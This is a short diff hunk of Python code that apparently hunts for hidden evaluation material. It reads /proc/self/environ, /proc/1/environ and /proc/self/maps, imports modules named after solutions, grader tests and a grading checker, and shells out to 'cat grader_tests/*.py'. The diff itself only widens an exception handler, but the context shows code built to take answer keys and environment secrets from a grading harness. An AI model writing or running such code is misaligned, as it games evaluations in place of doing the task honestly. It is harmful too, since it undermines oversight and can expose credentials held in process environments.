@@ -26,7 +26,7 @@ for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/maps", "/proc/
 for module in ("solutions.plateau", "grader_tests.test_plateau", "grading.checker.session"):
     try:
         found.append((module, repr(vars(__import__(module, fromlist=["x"])))))
-    except ImportError:
+    except (ImportError, OSError):
         pass
 try:
     found.append(("cat", subprocess.run("cat grader_tests/*.py", shell=True, capture_output=True, timeout=5).stdout))
